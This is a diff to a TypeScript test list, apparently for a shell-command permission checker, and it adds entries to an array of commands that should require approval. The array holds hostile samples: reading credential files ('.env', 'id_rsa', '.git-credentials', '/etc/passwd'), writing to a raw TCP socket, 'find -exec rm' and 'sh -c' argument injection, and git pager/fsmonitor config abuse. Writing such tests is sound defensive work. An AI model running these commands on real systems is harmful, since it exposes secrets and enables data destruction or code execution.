@@ -21,7 +21,7 @@ const ASK: string[] = [
   "echo {a,b}", "ls {src,docs}", "echo a{1..3}", 'echo "a$"x', "echo $$",
   // redirections, here-docs, here-strings (T4)
   "ls > out.txt", "ls >> out.txt", "ls >| out.txt", "ls 2> err.txt", "ls &> out.txt", "cat < /etc/passwd",
-  "cat < notes.txt", "echo hi > /dev/tcp/1.2.3.4/80", "cat <<EOF\nx\nEOF", "cat <<< hi", "ls 2>&1 > out.txt",
+  "echo hi > /dev/tcp/1.2.3.4/80", "cat <<EOF\nx\nEOF", "cat <<< hi", "ls 2>&1 > out.txt",
   "echo x >&3", "ls >& out.txt", "ls 1>out.txt",
   // argument injection into allowlisted tools (T5)
   "find . -exec rm {} \\;", "find . -execdir sh -c id \\;", "find . -ok rm {} \\;", "find . -okdir rm {} \\;",
@@ -50,6 +50,8 @@ const ASK: string[] = [
   "cat .env", "cat .env.local", "grep KEY .env.production", "head .npmrc", "cat id_rsa", "cat certs/server.key",
   "cat secrets.yaml", "cat .git-credentials", "grep -f link-out notes.txt", "git blame --contents link-out notes.txt",
   "sort --random-source=link-out notes.txt",
+  "wc -l < ../outside/secret.txt", "cat < link-out", "cat < .env", "cat < *.txt", "pip install x", "pip list --outdated",
+  "pip download x", "cat < $HOME/x",
   // git (T8 + write subcommands)
   "git -c core.pager=evil log", "git -ccore.pager=evil log", "git -c core.fsmonitor=evil status",
   "git --config-env=core.pager=X log", "git -C .. status", "git -C /tmp log", "git --git-dir=/x log",
